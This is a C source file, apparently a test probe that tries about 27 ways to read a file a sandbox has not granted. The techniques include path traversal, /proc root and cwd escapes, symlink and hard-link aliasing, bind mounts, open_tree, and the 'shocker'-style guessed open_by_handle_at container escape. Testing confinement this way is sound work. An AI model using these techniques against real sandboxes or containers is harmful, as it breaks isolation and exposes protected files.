/* Reads one file that was not granted. Usage: read-path FILE SCRATCH (a folder the tool may write). */
#include "route.h"
#include <dirent.h>
#include <linux/openat2.h>
#include <sys/mount.h>

static const char *target, *scratch;

static int take(const char *path)
{
	return take_from(open(path, O_RDONLY));
}

static int plain(void) { return take(target); }
static int doubled_slashes(void) { return take(path_of("//%s//.//%s", folder_of(target), name_of(target))); }
static int dot_dot(void) { return take(path_of("%s/../../../../../../../../../../../..%s", scratch, target)); }
static int dot_dot_from_usr(void) { return take(path_of("/usr/bin/../..%s", target)); }
static int trailing_dot(void) { return take(path_of("%s/./%s", folder_of(target), name_of(target))); }
static int through_own_root(void) { return take(path_of("/proc/self/root%s", target)); }
static int through_thread_root(void) { return take(path_of("/proc/thread-self/root%s", target)); }
static int through_first_root(void) { return take(path_of("/proc/1/root%s", target)); }
static int through_first_cwd(void) { return take(path_of("/proc/1/cwd/../../../../../../../..%s", target)); }

static int through_parents_root(void)
{
	return take(path_of("/proc/%d/root%s", getppid(), target));
}

/* Every process there is: the supervisor's root may be the host's. */
static int through_any_root(void)
{
	DIR *processes = opendir("/proc");
	struct dirent *entry;
	int last = ENOENT;
	if (!processes) return errno;
	while ((entry = readdir(processes))) {
		if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
		last = take(path_of("/proc/%s/root%s", entry->d_name, target));
		if (last == 0) return 0;
	}
	return last;
}

static int through_own_cwd(void)
{
	TRY(chdir(folder_of(target)));
	return take(path_of("/proc/self/cwd/%s", name_of(target)));
}

static int from_parent_folder(void)
{
	int folder = open(folder_of(target), O_PATH | O_DIRECTORY);
	TRY(folder);
	return take_from(openat(folder, name_of(target), O_RDONLY));
}

static int by_openat2(void)
{
	struct open_how how = { .flags = O_RDONLY };
	return take_from((int)syscall(SYS_openat2, AT_FDCWD, target, &how, sizeof how));
}

static int by_openat2_in_root(void)
{
	struct open_how how = { .flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT };
	int root = open("/", O_PATH | O_DIRECTORY);
	TRY(root);
	return take_from((int)syscall(SYS_openat2, root, target, &how, sizeof how));
}

static int reopened_handle(void)
{
	int handle = open(target, O_PATH);
	TRY(handle);
	return take(path_of("/proc/self/fd/%d", handle));
}

static int reopened_handle_by_dev_fd(void)
{
	int handle = open(target, O_PATH);
	TRY(handle);
	return take(path_of("/dev/fd/%d", handle));
}

static int through_symlink(void)
{
	char *link = path_of("%s/to-file", scratch);
	TRY(symlink(target, link));
	return take(link);
}

static int through_folder_symlink(void)
{
	char *link = path_of("%s/to-folder", scratch);
	TRY(symlink(folder_of(target), link));
	return take(path_of("%s/%s", link, name_of(target)));
}

static int through_root_symlink(void)
{
	char *link = path_of("%s/to-root", scratch);
	TRY(symlink("/proc/self/root", link));
	return take(path_of("%s%s", link, target));
}

static int through_symlink_chain(void)
{
	char *first = path_of("%s/chain-a", scratch), *second = path_of("%s/chain-b", scratch);
	TRY(symlink(second, first));
	TRY(symlink(target, second));
	return take(first);
}

static int by_hard_link(void)
{
	char *alias = path_of("%s/hard", scratch);
	TRY(link(target, alias));
	return take(alias);
}

static int by_hard_link_of_handle(void)
{
	char *alias = path_of("%s/hard-handle", scratch);
	int handle = open(target, O_PATH);
	TRY(handle);
	TRY(linkat(AT_FDCWD, path_of("/proc/self/fd/%d", handle), AT_FDCWD, alias, AT_SYMLINK_FOLLOW));
	return take(alias);
}

static int by_file_handle(void)
{
	struct { struct file_handle head; char bytes[MAX_HANDLE_SZ]; } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, root = open("/", O_RDONLY | O_DIRECTORY);
	TRY(name_to_handle_at(AT_FDCWD, target, &handle.head, &mount_id, 0));
	TRY(root);
	return take_from(open_by_handle_at(root, &handle.head, O_RDONLY));
}

/* The root of an ext4 file system is inode 2: a handle can be guessed, as Docker's "shocker" did. */
static int by_guessed_handle(void)
{
	struct { struct file_handle head; uint32_t bytes[2]; } handle = { .head = { .handle_bytes = 8, .handle_type = 1 }, .bytes = { 2, 0 } };
	int somewhere = open(scratch, O_RDONLY | O_DIRECTORY), root;
	TRY(somewhere);
	root = open_by_handle_at(somewhere, &handle.head, O_RDONLY | O_DIRECTORY);
	TRY(root);
	return take_from(openat(root, target + 1, O_RDONLY));
}

static int by_bind_mount(void)
{
	char *place = path_of("%s/place", scratch);
	TRY(close(open(place, O_CREAT | O_WRONLY, 0600)));
	TRY(mount(target, place, NULL, MS_BIND, NULL));
	int result = take(place);
	umount2(place, MNT_DETACH);
	return result;
}

static int by_open_tree(void)
{
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, target, 1 /* OPEN_TREE_CLONE */);
	TRY(tree);
	return take(path_of("/proc/self/fd/%d", tree));
}

int main(int count, char **words)
{
	if (count != 3) return 64;
	target = words[1];
	scratch = words[2];
	route("open", plain);
	route("doubled-slashes", doubled_slashes);
	route("dot-dot", dot_dot);
	route("dot-dot-from-usr", dot_dot_from_usr);
	route("dot", trailing_dot);
	route("proc-self-root", through_own_root);
	route("proc-thread-self-root", through_thread_root);
	route("proc-1-root", through_first_root);
	route("proc-1-cwd", through_first_cwd);
	route("proc-parent-root", through_parents_root);
	route("proc-any-root", through_any_root);
	route("proc-self-cwd", through_own_cwd);
	route("openat-parent", from_parent_folder);
	route("openat2", by_openat2);
	route("openat2-in-root", by_openat2_in_root);
	route("o-path-reopen", reopened_handle);
	route("o-path-dev-fd", reopened_handle_by_dev_fd);
	route("symlink", through_symlink);
	route("symlink-folder", through_folder_symlink);
	route("symlink-proc-root", through_root_symlink);
	route("symlink-chain", through_symlink_chain);
	route("hard-link", by_hard_link);
	route("hard-link-o-path", by_hard_link_of_handle);
	route("file-handle", by_file_handle);
	route("guessed-file-handle", by_guessed_handle);
	route("bind-mount", by_bind_mount);
	route("open-tree", by_open_tree);
	return 0;
}
